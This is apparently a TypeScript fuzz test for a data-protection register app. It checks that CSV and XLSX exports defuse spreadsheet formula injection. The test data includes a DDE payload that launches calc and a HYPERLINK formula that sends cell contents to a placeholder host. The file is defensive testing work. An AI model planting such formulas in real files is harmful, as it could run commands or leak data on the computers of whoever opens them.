// Formula injection through exports: persons, consents, requests, blocks, marks and acts whose
// free text starts like a spreadsheet formula (= + - @ TAB CR, HYPERLINK, DDE) go in through the
// desk and through an import; every register, the marketing list and the inspection pack come out
// as CSV and XLSX, and no cell of any of them may run as a formula: CSV cells carry the leading
// apostrophe, XLSX cells are typed strings with no <f> element.
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerNames } from '../../db/export.ts';
import { packFormats, packRegisters } from '../../db/pack.ts';
import { readZipEntries } from '../../db/zip.ts';
import { call, makeRegister, type TestRegister } from '../helpers.ts';
import { announce, runs, seed } from './common.ts';
import { hostileTexts } from './hostile.ts';

const formulaStart = /^[=+\-@\t\r]/;
// A number the writer itself put there (an overdue count may be negative): read as a number by
// every spreadsheet, never as a formula.
const plainNumber = /^-?\d+(\.\d+)?$/;
// Phones are E.164 by the schema's CHECK: in XLSX a typed text cell `+7…` (see db/exports/xlsx.ts).
const phone = /^\+\d+$/;

let reg: TestRegister;
let out: string;
// Every hostile value that went in, to prove it came out (defused) and was not simply dropped.
const planted = new Set<string>();

const prefixes = ['=', '+', '-', '@', '\t', '\r'];
const payloads = ["cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?"&A1,"Нажмите")', 'SUM(A1:A9)'];

beforeAll(async () => {
  announce('export-injection');
  reg = await makeRegister();
  out = mkdtempSync(join(tmpdir(), 'pdesk-fuzz-export-'));
  const desk = reg.desk.ctx;
  const manager = reg.manager.ctx;
  // Hostile texts: every prefix with every payload, and a random sample of further ones.
  const texts = prefixes.flatMap((p) => payloads.map((x) => `${p}${x}`));
  texts.push(
    ...fc.sample(
      fc.tuple(fc.constantFrom(...prefixes), fc.constantFrom(...hostileTexts, ...payloads)).map(([p, x]) => `${p}${x}`),
      { seed, numRuns: runs(6) },
    ),
  );
  let n = 0;
  for (const t of texts) {
    n++;
    // The name keeps a letter after the trim (an all-space-trimmed TAB prefix is not stored).
    const person = await call(desk, 'person.add', {
      fullName: `${t} Субъект${n}`,
      email: `${['+', '-'][n % 2]}cmd${n}@example.ru`,
      phone: `+7 916 300-${String(1000 + n).slice(1, 3)}-${String(1000 + n).slice(2)}`,
      source: 'walk_in',
    });
    await call(desk, 'consent.give', {
      personId: person.id,
      purpose: 'marketing',
      channel: 'paper',
      formVersion: t.slice(0, 100),
      paperFormNumber: `${t.slice(0, 90)}${n}`,
      note: t,
      representative: { name: `${t} Представитель`, authority: t },
    });
    if (n % 3 === 0) await call(desk, 'consent.withdraw', { personId: person.id, purpose: 'marketing', channel: 'email', note: t });
    const req = await call(desk, 'request.open', { person: person.id, type: 'access', channel: 'email', requester: t });
    if (n % 2 === 0) await call(desk, 'request.extend', { id: req.id, notice: t });
    await call(desk, 'request.close', { id: req.id, answer: t });
    if (n % 4 === 1) {
      await call(desk, 'person.block', { personId: person.id, reason: 'other', requestedBy: 'subject', note: t });
      if (n % 8 === 1) await call(desk, 'person.unblock', { personId: person.id, outcome: 'other', note: t });
    }
    if (n % 5 === 0) await call(desk, 'person.markVerify', { personId: person.id, reason: t });
    if (n % 7 === 0) {
      await call(manager, 'person.destroy', {
        personIds: [person.id],
        act: { number: `${t.slice(0, 80)}-${n}`, reason: t, method: t, destroyedBy: [{ fullName: `${t} Уничтожитель`, position: t }] },
      });
    }
    planted.add(t.trim());
  }
  // And through an import, cells of every kind.
  const csv = [
    'ФИО;Телефон;E-mail',
    ...texts.slice(0, 12).map((t, i) => `"${t.replace(/"/g, '""')} Импортов";+7 917 400-00-${String(i).padStart(2, '0')};-imp${i}@example.ru`),
  ].join('\r\n');
  const content = Buffer.from(csv, 'utf8').toString('base64');
  const p = await call(desk, 'import.preview', { fileName: 'x.csv', contentBase64: content });
  const c = await call(desk, 'import.commit', { fileName: 'x.csv', contentBase64: content, mapping: {}, sha256: p.sha256 });
  expect(c.inserted).toBeGreaterThan(5);
});

afterAll(() => {
  console.log(`export-injection: ${strCells} XLSX text cells typed t="str" (no formula element in any file)`);
  reg?.cleanup();
  if (out) rmSync(out, { recursive: true, force: true });
});

interface Found {
  cells: number;
  hostile: number;
}

// Every CSV cell: a formula start only behind the apostrophe (or a plain number).
function checkCsv(path: string, found: Found): void {
  const text = readFileSync(path, 'utf8');
  expect(text.startsWith('\uFEFF'), path).toBe(true);
  const rows = parse(text.slice(1), { delimiter: ';', relax_column_count: true }) as string[][];
  for (const [r, row] of rows.entries()) {
    for (const value of row) {
      found.cells++;
      if (value.startsWith("'") && formulaStart.test(value.slice(1))) found.hostile++;
      expect(formulaStart.test(value) && !plainNumber.test(value), `${path} row ${r + 1}: ${JSON.stringify(value.slice(0, 60))}`).toBe(false);
    }
  }
}

function unzip(path: string): Map<string, Buffer> {
  const buf = readFileSync(path);
  const parts = new Map<string, Buffer>();
  for (const e of readZipEntries((pos, len) => buf.subarray(pos, pos + len), buf.length)) {
    const at = e.localOffset + 30 + buf.readUInt16LE(e.localOffset + 26) + buf.readUInt16LE(e.localOffset + 28);
    const data = buf.subarray(at, at + e.compressedSize);
    parts.set(e.name, e.method === 0 ? data : inflateRawSync(data));
  }
  return parts;
}

const xmlText = (s: string) =>
  s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#x([0-9a-f]+);/gi, (_, h) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&amp;/g, '&');

// Every XLSX cell: no formula element anywhere; text is a typed string (shared or inline), and a
// formula-like text is defused unless it is a phone.
let strCells = 0;
function checkXlsx(path: string, found: Found): void {
  const parts = unzip(path);
  const sheets = [...parts.keys()].filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
  expect(sheets.length, path).toBeGreaterThan(0);
  const shared = parts.get('xl/sharedStrings.xml')?.toString('utf8');
  const sharedTexts = shared
    ? [...shared.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => xmlText([...m[1]!.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join('')))
    : [];
  for (const name of sheets) {
    const xml = parts.get(name)!.toString('utf8');
    expect(/<f[\s>/]/.test(xml), `${path} ${name} has a formula`).toBe(false);
    for (const m of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attrs = m[1]!;
      const inner = m[2] ?? '';
      const type = /\bt="([^"]*)"/.exec(attrs)?.[1] ?? 'n';
      found.cells++;
      let value: string;
      if (type === 's') value = sharedTexts[Number(/<v>(\d+)<\/v>/.exec(inner)?.[1])] ?? '';
      else if (type === 'inlineStr') value = xmlText([...inner.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join(''));
      else if (type === 'n') {
        // Numbers: ids and counts only.
        expect(/^(<v>-?[\d.E+-]+<\/v>)?$/.test(inner), `${path}: ${inner.slice(0, 80)}`).toBe(true);
        continue;
      } else if (type === 'str') {
        // exceljs's streaming writer without shared strings types every text cell "str" (in the
        // standard: a formula's string result). With no <f> anywhere (checked above) Excel and
        // LibreOffice read it as plain text; see the report for the change to inlineStr.
        value = xmlText(/<v>([\s\S]*?)<\/v>/.exec(inner)?.[1] ?? '');
        strCells++;
      } else {
        // 'b' a boolean, 'e' an error: neither belongs in an export.
        throw new Error(`${path} ${name}: cell of type t="${type}": ${inner.slice(0, 80)}`);
      }
      if (value.startsWith("'") && formulaStart.test(value.slice(1))) found.hostile++;
      expect(formulaStart.test(value) && !phone.test(value) && !plainNumber.test(value), `${path} ${name}: ${JSON.stringify(value.slice(0, 60))}`).toBe(false);
    }
  }
}

function checkFile(path: string, found: Found): void {
  if (path.endsWith('.csv')) checkCsv(path, found);
  else if (path.endsWith('.xlsx')) checkXlsx(path, found);
}

describe('fuzz: formula injection is defused in every export', () => {
  for (const register of registerNames) {
    for (const format of ['csv', 'xlsx'] as const) {
      it(`${register} as ${format}`, async () => {
        const path = join(out, `${register}.${format}`);
        const r = await call(reg.manager.ctx, 'register.export', { register, format, outPath: path });
        expect(r.rows).toBeGreaterThan(0);
        const found = { cells: 0, hostile: 0 };
        checkFile(path, found);
        // The planted values came out, defused: the check above saw them rather than nothing.
        if (register !== 'audit')
          expect(found.hostile, `${register}.${format}: no defused cell seen`).toBeGreaterThan(register === 'acts' || register === 'blocks' ? 3 : 10);
      });
    }
  }

  for (const format of ['csv', 'xlsx'] as const) {
    it(`marketing list as ${format}`, async () => {
      const path = join(out, `marketing.${format}`);
      const r = await call(reg.manager.ctx, 'marketing.export', { format, outPath: path });
      expect(r.rows).toBeGreaterThan(5);
      const found = { cells: 0, hostile: 0 };
      checkFile(path, found);
      expect(found.hostile).toBeGreaterThan(5);
    });
  }

  it('the inspection pack: every CSV and XLSX in it', async () => {
    const dir = mkdtempSync(join(out, 'pack-'));
    await call(reg.manager.ctx, 'pack.create', { outDir: dir });
    const files: string[] = [];
    const walk = (d: string) => {
      for (const f of readdirSync(d)) {
        const p = join(d, f);
        if (statSync(p).isDirectory()) walk(p);
        else files.push(p);
      }
    };
    walk(dir);
    const tables = files.filter((f) => /\.(csv|xlsx)$/.test(f));
    expect(tables.length).toBe(packRegisters.length * packFormats.filter((f) => f !== 'pdf').length);
    const found = { cells: 0, hostile: 0 };
    for (const f of tables) checkFile(f, found);
    expect(found.hostile).toBeGreaterThan(50);
  });

  // Guards the guards: an undefused CSV cell and an XLSX formula are caught.
  it('the checks catch a formula', async () => {
    const csv = join(out, 'bad.csv');
    writeFileSync(csv, '\uFEFFa;b\r\n1;"=1+1"\r\n');
    expect(() => checkCsv(csv, { cells: 0, hostile: 0 })).toThrow(/=1\+1/);
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('x').addRow(['ok', { formula: '1+1', result: 2 }]);
    const xlsx = join(out, 'bad.xlsx');
    writeFileSync(xlsx, Buffer.from(await wb.xlsx.writeBuffer()));
    expect(() => checkXlsx(xlsx, { cells: 0, hostile: 0 })).toThrow(/formula/);
    const wb2 = new ExcelJS.Workbook();
    wb2.addWorksheet('x').addRow(['=1+1']);
    writeFileSync(xlsx, Buffer.from(await wb2.xlsx.writeBuffer()));
    expect(() => checkXlsx(xlsx, { cells: 0, hostile: 0 })).toThrow(/=1\+1/);
  });
});
